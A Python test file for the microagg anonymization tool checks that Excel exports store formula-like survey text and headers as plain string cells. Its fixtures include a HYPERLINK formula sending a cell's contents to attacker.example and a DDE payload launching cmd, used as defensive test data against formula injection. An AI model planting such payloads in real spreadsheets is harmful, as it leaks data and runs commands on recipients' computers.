"""Excel releases never hold live formulas: respondents' text (cells and headers) that begins
with ``=``, ``+``, ``-`` or ``@``, or equals an error code, is written as a string cell with
its exact text, by :func:`microagg.io.write_table` and ``microagg anonymize`` (the workbench's
export: tests/web/test_sweep_export.py)."""

from __future__ import annotations

import pathlib
import subprocess
import sys

import pandas as pd
import pytest

from microagg.io.tables import read_table, write_table

openpyxl = pytest.importorskip("openpyxl")

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"details")'
TEXTS = {"=": HYPERLINK, "+": "+1+cmd|' /C calc'!A0", "-": "-2+3", "@": "@SUM(A1:A9)",
         "#": "#DIV/0!"}
HEADERS = {"=": "=A1", "+": "+note", "-": "-note", "@": "@note", "#": "#N/A"}


def _cells(path: pathlib.Path, column: int) -> list[tuple[object, str]]:
    sheet = openpyxl.load_workbook(path).active
    return [(row[0].value, row[0].data_type)
            for row in sheet.iter_rows(min_col=column, max_col=column)]


@pytest.mark.parametrize("prefix", TEXTS)
def test_write_table_writes_text_as_text_cells(tmp_path: pathlib.Path, prefix: str) -> None:
    out = tmp_path / "out.xlsx"
    write_table(pd.DataFrame({"n": [1, 2], HEADERS[prefix]: [TEXTS[prefix], "plain"]}), out)
    assert _cells(out, 2) == [(HEADERS[prefix], "s"), (TEXTS[prefix], "s"), ("plain", "s")]
    assert _cells(out, 1) == [("n", "s"), (1, "n"), (2, "n")]
    assert read_table(out)[HEADERS[prefix]].tolist() == [TEXTS[prefix], "plain"]


def test_cli_excel_release_holds_no_formula(tmp_path: pathlib.Path) -> None:
    """The installed command, in a process of its own: a CSV whose pass-through text columns
    and headers look like formulas, published as .xlsx."""
    rows = 12
    table = pd.DataFrame({"age": [20 + 3 * i for i in range(rows)],
                          **{HEADERS[p]: [TEXTS[p]] * rows for p in TEXTS}})
    source = tmp_path / "answers.csv"
    table.to_csv(source, index=False)
    out = tmp_path / "out.xlsx"
    done = subprocess.run(
        [sys.executable, "-c", "from microagg.cli import main; main()", "anonymize",
         str(source), "-q", "age", "-k", "3", "--random-state", "0", "-o", str(out)],
        capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stderr + done.stdout
    book = openpyxl.load_workbook(out)
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    for position, prefix in enumerate(TEXTS, start=2):
        assert _cells(out, position) == [(HEADERS[prefix], "s")] + [(TEXTS[prefix], "s")] * rows
